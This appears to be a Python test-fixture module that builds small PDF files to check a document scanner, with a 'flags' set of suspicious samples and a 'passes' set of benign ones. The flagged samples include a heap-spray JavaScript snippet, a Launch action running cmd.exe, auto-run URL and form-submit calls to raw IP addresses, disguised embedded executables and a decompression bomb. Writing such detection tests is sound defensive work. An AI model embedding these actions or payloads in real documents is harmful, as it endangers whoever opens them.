"""PDF documents written by hand: a page, and one thing that acts."""

import struct
import zlib

BASE = {1: "<< /Type /Catalog /Pages 2 0 R {catalog} >>", 2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page} >>"}  # fmt: skip
PROGRAM = b"MZ" + bytes(300)


def pdf(catalog="", page="", objects=None, *, packed=(), front=b"", trailer=""):
    """A document; objects named in `packed` lie in a compressed object stream."""
    rows = {n: text.format(catalog=catalog, page=page) if n != 2 else text for n, text in BASE.items()}
    rows = {n: value.encode("latin-1") if isinstance(value, str) else value for n, value in {**rows, **(objects or {})}.items()}
    out, places = front + b"%PDF-1.7\n", {}
    inside = {n: rows.pop(n) for n in packed}
    last = max([*rows, *inside]) + 1
    if inside:
        head, body = b"", b""
        for n, value in inside.items():
            head += b"%d %d " % (n, len(body))
            body += value + b" "
        data = zlib.compress(head + body)
        rows[last] = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(inside), len(head), len(data)) + data + b"\nendstream"
    for n, value in rows.items():
        places[n] = len(out)
        out += b"%d 0 obj\n" % n + value + b"\nendobj\n"
    start = len(out)
    if not inside:
        size = max(rows) + 1
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        out += b"".join(b"%010d 00000 n \n" % places[n] if n in places else b"0000000000 65535 f \n" for n in range(1, size))
        return out + f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    table = b"\0" + bytes(4) + b"\0"
    order = list(inside)
    for n in range(1, last + 2):
        if n in inside:
            table += struct.pack(">BIB", 2, last, order.index(n))
        else:
            table += struct.pack(">BIB", 1, start if n == last + 1 else places[n], 0)
    table = zlib.compress(table)
    out += f"{last + 1} 0 obj\n<< /Type /XRef /Size {last + 2} /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length {len(table)} >>\nstream\n".encode()
    return out + table + f"\nendstream\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


def stream(data, words=""):
    return f"<< {words} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def attached(name, data):
    objects = {4: f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 5 0 R >> >>", 5: stream(data, "/Type /EmbeddedFile")}
    return {"catalog": f"/Names << /EmbeddedFiles << /Names [({name}) 4 0 R] >> >>", "objects": objects}


def flags():
    spray = "var a = unescape('%u9090%u9090%u4141'); while (a.length < 4000) a += a; util.printf('%45000f', 1);"
    yield "javascript--spray", {"a.pdf": pdf("/OpenAction 4 0 R", objects={4: f"<< /S /JavaScript /JS ({spray}) >>".replace("('", "\\('").replace("')", "'\\)")})}
    launch = "this.exportDataObject\\({ cName: 'a.docm', nLaunch: 2 }\\);"
    yield "javascript--export-and-launch", {"a.pdf": pdf("/Names << /JavaScript << /Names [(x) 4 0 R] >> >>", objects={4: f"<< /S /JavaScript /JS ({launch}) >>"})}
    yield "javascript--in-an-object-stream", {"a.pdf": pdf("/OpenAction 4 0 R", objects={4: "<< /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/a', true\\);) >>"}, packed=[4])}
    yield "javascript--in-a-stream", {"a.pdf": pdf("/AA << /WC 4 0 R >>", objects={4: "<< /S /JavaScript /JS 5 0 R >>", 5: stream(b"eval(String.fromCharCode(97,108,101,114,116));")})}
    yield "launch--command", {"a.pdf": pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>")}
    yield "launch--from-a-page", {"a.pdf": pdf(page="/AA << /O << /S /Launch /F (notes.docx) >> >>")}
    yield "embedded_program--windows", {"a.pdf": pdf(**attached("invoice.exe", PROGRAM))}
    yield "embedded_program--by-content", {"a.pdf": pdf(**attached("photo.png", PROGRAM))}
    yield "embedded_file--macros", {"a.pdf": pdf(**attached("offer.docm", b"PK\x03\x04" + bytes(60)))}
    yield "hidden_name--javascript", {"a.pdf": pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")}
    yield "submit_form--raw-address", {"a.pdf": pdf(page="/Annots [<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (http://203.0.113.9/in) >> >>]")}
    yield "link--share", {"a.pdf": pdf("/AA << /WC << /S /GoToE /F (\\\\\\\\203.0.113.7\\\\share\\\\a.pdf) /D [0 /Fit] >> >>")}
    yield "link--raw-address", {"a.pdf": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://198.51.100.3/login) >> >>]")}
    form = b"<xdp><script contentType='application/x-javascript'>eval(unescape('%u9090%u9090'))</script></xdp>"
    yield "javascript--xfa", {"a.pdf": pdf("/AcroForm << /XFA 4 0 R >>", objects={4: stream(form)})}
    yield "rich_media--flash", {"a.pdf": pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>]")}
    lock = "/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O (" + "a" * 32 + ") /U (" + "b" * 32 + ") >> /ID [(0123456789abcdef) (0123456789abcdef)]"
    yield "encrypted--password", {"a.pdf": pdf(trailer=lock)}
    yield "javascript--behind-other-bytes", {"a.pdf": pdf("/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1'\\)) >>", front=b"\x89PNG\r\n\n" * 9)}


    yield "damaged_action--no-pages", {"a.pdf": pdf("/OpenAction << /S /JavaScript /JS (x) >>").replace(b"/Kids", b"/Kidz").replace(b"/Root", b"/Rood")}
    blank = zlib.compress(b"4 0 << /A 1 >>" + b" " * (130 << 20), 9)
    yield "bomb--object-stream", {"a.pdf": pdf(objects={5: stream(blank, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")})}


def passes():
    yield "a-page", {"a.pdf": pdf()}
    yield "object-stream", {"a.pdf": pdf("/Lang (en)", objects={4: "<< /Producer (An editor) >>"}, packed=[4])}
    yield "opens-at-a-page", {"a.pdf": pdf("/OpenAction [3 0 R /Fit]")}
    yield "links", {"a.pdf": pdf(page="/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.example.com/a) >> >>]")}
    field = "<< /FT /Tx /T (sum) /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >> >> >>"
    yield "form-with-numbers", {"a.pdf": pdf("/AcroForm << /Fields [4 0 R] >>", objects={4: field})}
    yield "invoice-with-data", {"a.pdf": pdf(**attached("factur-x.xml", b"<?xml version='1.0'?><Invoice/>"))}
    yield "names-with-numbers", {"a.pdf": pdf("/Extra << /A#20b 1 /C#23 2 >>")}
    yield "cycle", {"a.pdf": pdf("/Loop 4 0 R", objects={4: "<< /Self 4 0 R /Others [4 0 R 1 0 R] >>"})}
